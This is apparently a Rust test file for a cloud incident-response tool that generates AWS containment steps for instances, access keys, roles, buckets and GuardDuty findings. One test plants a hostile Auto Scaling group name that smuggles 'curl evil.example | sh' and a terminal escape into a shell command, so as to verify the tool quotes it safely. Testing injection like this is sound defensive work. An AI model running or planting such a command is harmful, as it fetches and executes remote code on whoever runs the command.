//! Response steps: for each kind of resource, in order, with the graph's
//! ids filled in and warnings where the graph shows what a step breaks;
//! hostile names stay one shell word.

use chrono::{TimeZone, Utc};
use serde_json::Value;
use skyhound::analysis::respond::{Phase, Plan, respond};
use skyhound::graph::Graph;
use skyhound::model::NodeKind;

use super::cli::skyhound;

fn at() -> chrono::DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 12, 4, 3, 0, 0)
        .single()
        .expect("a time")
}

fn plan_for(g: &Graph, text: &str) -> Plan {
    let found = g.resolve(text);
    let id = found
        .iter()
        .copied()
        .find(|id| skyhound::analysis::respond::applies(g.node(*id).kind()))
        .expect("resolves");
    respond(g, id, at()).expect("a plan")
}

fn text(plan: &Plan) -> String {
    skyhound::report::respond_text(plan)
}

#[test]
fn bill_web_server_steps_keep_evidence_then_contain_then_investigate() {
    let g = skyhound::source::demo::graph();
    let plan = plan_for(&g, "bill-web-server");
    let phases: Vec<Phase> = plan.steps.iter().map(|s| s.phase).collect();
    let mut sorted = phases.clone();
    sorted.sort();
    assert_eq!(phases, sorted, "phases in order");
    insta::assert_snapshot!(text(&plan));
}

#[test]
fn alice_app_instance_behind_the_load_balancer_is_deregistered_with_its_port() {
    let g = skyhound::source::demo::graph();
    let plan = plan_for(&g, "alice-prod-app-1");
    let dereg = plan
        .steps
        .iter()
        .find(|s| s.title.starts_with("Deregister it from target group"))
        .expect("a deregister step");
    let command = dereg.command.as_deref().unwrap_or_default();
    assert!(command.starts_with("aws elbv2 deregister-targets --region us-east-1 --target-group-arn arn:aws:elasticloadbalancing:"), "{command}");
    assert!(command.contains("--targets Id=i-"), "{command}");
    // Several app instances share the group: none is the only target.
    assert!(dereg.warning.is_none(), "{:?}", dereg.warning);
}

#[test]
fn the_only_target_of_a_group_says_the_load_balancer_stops_serving() {
    let mut g = skyhound::source::demo::graph();
    // Keep one target in the group: the graph then shows it alone.
    let tg = g
        .nodes_of(NodeKind::TargetGroup)
        .map(|(id, _)| id)
        .next()
        .expect("a target group");
    let mut nodes: Vec<skyhound::model::Node> = g.nodes().map(|(_, n)| n.clone()).collect();
    let tg_id = g.node(tg).id.clone();
    for n in &mut nodes {
        if n.id == tg_id
            && let skyhound::model::NodeData::TargetGroup(t) = &mut n.data
            && let Some(targets) = &mut t.targets
        {
            targets.truncate(1);
        }
    }
    g = Graph::build(nodes, Default::default());
    let only = g
        .outgoing(g.by_id(&tg_id).expect("group"))
        .find(|e| e.kind == skyhound::model::EdgeKind::Targets)
        .map(|e| e.to)
        .expect("a target");
    let instance = match g.node(only).kind() {
        NodeKind::Instance => only,
        _ => g
            .neighbours(
                only,
                skyhound::model::EdgeKind::AttachedToInstance,
                skyhound::graph::Direction::Outgoing,
            )
            .next()
            .expect("its instance"),
    };
    let plan = respond(&g, instance, at()).expect("a plan");
    let dereg = plan
        .steps
        .iter()
        .find(|s| s.title.starts_with("Deregister"))
        .expect("a deregister step");
    let warning = dereg.warning.as_deref().unwrap_or_default();
    assert!(warning.contains("only target"), "{warning}");
    assert!(warning.contains("stops serving"), "{warning}");
}

#[test]
fn an_access_key_is_deactivated_not_deleted_and_its_use_looked_up() {
    let g = skyhound::source::demo::graph();
    let (key, _) = g
        .nodes_of(NodeKind::AccessKey)
        .find(|(id, _)| {
            g.neighbours(
                *id,
                skyhound::model::EdgeKind::HasAccessKey,
                skyhound::graph::Direction::Incoming,
            )
            .any(|u| g.node(u).name.as_deref() == Some("dev-sam"))
        })
        .expect("dev-sam's key");
    let plan = respond(&g, key, at()).expect("a plan");
    insta::assert_snapshot!(text(&plan));
}

#[test]
fn a_role_gets_its_older_sessions_revoked_as_of_now() {
    let g = skyhound::source::demo::graph();
    let plan = plan_for(&g, "arn:aws:iam::555555555555:role/web-server-role");
    let revoke = plan
        .steps
        .iter()
        .find(|s| s.title.starts_with("Revoke every session"))
        .expect("a revoke step");
    let command = revoke.command.as_deref().unwrap_or_default();
    assert!(
        command.contains("\"aws:TokenIssueTime\":\"2026-12-04T03:00:00Z\""),
        "{command}"
    );
    assert!(command.contains("--role-name web-server-role"), "{command}");
}

#[test]
fn a_public_bucket_saves_policy_and_acl_then_blocks_public_access() {
    let g = skyhound::source::demo::graph();
    let plan = plan_for(&g, "bill-backups");
    insta::assert_snapshot!(skyhound::report::respond_markdown(&plan));
}

#[test]
fn a_finding_saves_itself_first_and_is_archived_last() {
    let g = skyhound::source::demo::graph();
    let (finding, _) = g
        .nodes_of(NodeKind::GuardDutyFinding)
        .find(|(_, n)| {
            matches!(&n.data, skyhound::model::NodeData::GuardDutyFinding(f)
                if f.finding_type.starts_with("CryptoCurrency"))
        })
        .expect("Bill's bitcoin finding");
    let plan = respond(&g, finding, at()).expect("a plan");
    assert_eq!(plan.name.as_deref(), Some("bill-web-server"));
    let first = plan.steps.first().expect("steps");
    assert!(
        first
            .command
            .as_deref()
            .unwrap_or_default()
            .starts_with("aws guardduty get-findings")
    );
    let last = plan.steps.last().expect("steps");
    assert!(
        last.command
            .as_deref()
            .unwrap_or_default()
            .starts_with("aws guardduty archive-findings")
    );
    let tag = plan
        .steps
        .iter()
        .find(|s| s.title == "Tag it as under investigation")
        .and_then(|s| s.command.clone())
        .unwrap_or_default();
    assert!(
        tag.contains(&format!("Value={}", g.node(finding).id)),
        "{tag}"
    );
}

#[test]
fn a_hostile_auto_scaling_group_name_stays_one_quoted_word() {
    let g = skyhound::source::demo::graph();
    let web = g.resolve("bill-web-server")[0];
    let mut nodes: Vec<skyhound::model::Node> = g.nodes().map(|(_, n)| n.clone()).collect();
    let web_id = g.node(web).id.clone();
    for n in &mut nodes {
        if n.id == web_id {
            n.tags.insert(
                "aws:autoscaling:groupName".into(),
                "web'; curl evil.example | sh; echo '\u{1b}[2J".into(),
            );
        }
    }
    let g = Graph::build(nodes, Default::default());
    let plan = respond(&g, g.by_id(&web_id).expect("web"), at()).expect("a plan");
    let detach = plan
        .steps
        .iter()
        .find(|s| s.title.starts_with("Detach it from its Auto Scaling group"))
        .and_then(|s| s.command.clone())
        .expect("a detach step");
    assert!(
        detach.contains(r"--auto-scaling-group-name 'web'\''; curl evil.example | sh; echo '\''"),
        "{detach}"
    );
    let written = text(&plan);
    let shown = skyhound::text::inert_text(&written);
    assert!(
        !shown.contains('\u{1b}'),
        "no raw escape reaches the terminal"
    );
}

#[test]
fn json_has_the_contract_fields_and_phases_in_order() {
    let (code, out, err) = skyhound(&["--demo", "respond", "bill-web-server", "--json"]);
    assert_eq!(code, 0, "{err}");
    let v: Value = serde_json::from_str(&out).expect("JSON");
    assert_eq!(v["kind"], "instance");
    assert!(v["resource"].as_str().is_some_and(|r| r.starts_with("i-")));
    let steps = v["steps"].as_array().expect("steps");
    let order = ["evidence", "contain", "investigate", "recover"];
    let mut last = 0;
    for s in steps {
        let phase = s["phase"].as_str().expect("phase");
        let at = order
            .iter()
            .position(|p| *p == phase)
            .expect("a known phase");
        assert!(at >= last, "{phase} after {}", order[last]);
        last = at;
        assert!(s["title"].is_string());
        assert!(s.get("command").is_some() && s.get("warning").is_some());
    }
    assert!(
        steps.iter().any(|s| s["command"].is_null()),
        "a manual step has a null command"
    );
}

#[test]
fn a_kind_without_steps_is_refused_with_what_has_them() {
    let (code, _, err) = skyhound(&["--demo", "respond", "bill-vpc"]);
    assert_ne!(code, 0);
    assert!(err.contains("access key"), "{err}");
}
